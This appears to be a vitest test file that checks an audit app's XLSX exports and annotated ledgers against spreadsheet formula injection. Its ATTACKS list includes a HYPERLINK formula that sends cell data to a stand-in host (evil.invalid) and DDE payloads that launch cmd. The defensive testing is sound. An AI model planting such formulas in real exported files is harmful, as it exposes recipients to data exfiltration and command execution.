/**
 * Issue 12, finding 6 (exports): no cell we write is a formula a spreadsheet would evaluate (OWASP CSV
 * injection) — in the streamed list exports and in the annotated ledger — read back with exceljs.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, startHarness } from '../testing/harness.js';
import type { ImportReport } from './ledger-import.js';
import { csvText, upload, xlsxOf } from './test-files.js';
import { streamWorkbook } from './xlsx-stream.js';

const ATTACKS = [
  '=HYPERLINK("http://evil.invalid/?"&A1,"点击查看")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

async function read(bytes: ArrayBuffer | Uint8Array): Promise<ExcelJS.Worksheet[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as ArrayBuffer);
  return wb.worksheets;
}

/** Every cell of a sheet: its type and value as exceljs reads it. */
function cells(ws: ExcelJS.Worksheet): ExcelJS.Cell[] {
  const out: ExcelJS.Cell[] = [];
  ws.eachRow((r) => r.eachCell((c) => out.push(c)));
  return out;
}

const isFormulaLike = (c: ExcelJS.Cell) =>
  c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'string' && /^[=+\-@\t\r]/.test(c.value));

describe('the streamed workbook', () => {
  it('writes text that starts like a formula with a leading quote, and numbers as numbers (negative too)', async () => {
    const rows = ATTACKS.map((text, i) => ({ text, n: -(i + 1) * 1.5, d: new Date(Date.UTC(2025, 4, 10)) }));
    async function* pages() {
      yield rows;
    }
    const body = await streamWorkbook(
      [
        {
          name: '表',
          columns: [
            { header: '文本', value: (r: (typeof rows)[number]) => r.text },
            { header: '金额', value: (r: (typeof rows)[number]) => r.n },
            { header: '日期', value: (r: (typeof rows)[number]) => r.d },
          ],
          pages: pages(),
        },
      ],
      async () => {},
    );
    const [ws] = await read(await new Response(body).arrayBuffer());
    const data = cells(ws!).filter((c) => Number(c.row) > 1);
    expect(data.filter(isFormulaLike)).toEqual([]);
    // XML reads a carriage return back as a line feed.
    expect(ATTACKS.map((_, i) => ws!.getRow(i + 2).getCell(1).value)).toEqual(
      ATTACKS.map((a) => `'${a.replace('\r', '\n')}`),
    );
    expect(ATTACKS.map((_, i) => ws!.getRow(i + 2).getCell(2).value)).toEqual(rows.map((r) => r.n));
    expect(ws!.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(ws!.getRow(2).getCell(3).type).toBe(ExcelJS.ValueType.Date);
  });
});

describe('through the API', () => {
  let h: Harness;
  let inspector: string;
  beforeAll(async () => {
    h = await startHarness();
    inspector = await h.token('inspector');
  });
  afterAll(() => h.close());

  it('a list export writes no cell a spreadsheet would evaluate, and keeps amounts as numbers', async () => {
    for (const [i, description] of ATTACKS.filter((a) => !/^[\t\r]/.test(a)).entries()) {
      const res = await h.call('POST', '/api/v1/findings', {
        token: inspector,
        body: {
          unitId: 'ds-a',
          category: 'formalism',
          severity: 'serious',
          source: 'inspection',
          description,
          amountFen: 1234 + i,
          discoveredOn: '2025-05-10',
          externalId: `-${i}`,
        },
      });
      expect(res.status).toBe(201);
    }
    const res = await h.call('GET', '/api/v1/exports/findings.xlsx', { token: inspector });
    expect(res.status).toBe(200);
    const [ws] = await read(await res.arrayBuffer());
    const all = cells(ws!);
    expect(all.filter(isFormulaLike).map((c) => c.value)).toEqual([]);
    const texts = all.map((c) => c.value);
    for (const a of ATTACKS.filter((x) => !/^[\t\r]/.test(x))) expect(texts).toContain(`'${a}`);
    const amounts = all.filter((c) => c.col === String(8) || Number(c.col) === 8).slice(1);
    expect(amounts.length).toBeGreaterThan(0);
    expect(amounts.every((c) => c.type === ExcelJS.ValueType.Number)).toBe(true);
  });

  it('the annotated ledger (from a csv and from an xlsx) writes no cell a spreadsheet would evaluate', async () => {
    const row = (description: string, person: string) => [
      1,
      '审计',
      '挪用',
      description,
      '不存在镇',
      person,
      null,
      '2018-06-30',
      null,
      null,
      -3,
    ];
    const rows = [row('=1+1', '@王某'), row('-扶贫资金', '+86 138')];
    for (const [name, bytes] of [
      ['ledger.csv', new Uint8Array(Buffer.from(csvText(rows)))],
      ['ledger.xlsx', await xlsxOf(rows)],
    ] as const) {
      const res = await upload(h, inspector, bytes, { name });
      expect(res.status).toBe(200);
      const r = (await res.json()) as ImportReport;
      const file = await h.call('GET', r.annotated, { token: inspector });
      expect(file.status).toBe(200);
      const [ws] = await read(await file.arrayBuffer());
      const all = cells(ws!);
      expect(
        all.filter(isFormulaLike).map((c) => c.value),
        name,
      ).toEqual([]);
      expect(all.map((c) => c.value)).toEqual(
        expect.arrayContaining(["'=1+1", "'@王某", "'-扶贫资金", "'+86 138"]),
      );
    }
  });

  it('a ledger written back with quoted cells imports with the text as it was', async () => {
    const res = await upload(
      h,
      inspector,
      await xlsxOf([
        [1, '审计', '挪用', "'-扶贫资金滞留", '青松镇', "'@王某", null, '2018-06-30', null, null, 1],
      ]),
      { dryRun: false },
    );
    const r = (await res.json()) as ImportReport;
    const id = r.rows[0]?.rectificationId;
    expect(id).toBeTruthy();
    const rect = (await (
      await h.call('GET', `/api/v1/rectifications/${id}`, { token: inspector })
    ).json()) as {
      title: string;
      responsiblePerson: string;
    };
    expect([rect.title, rect.responsiblePerson]).toEqual(['-扶贫资金滞留', '@王某']);
  });
});
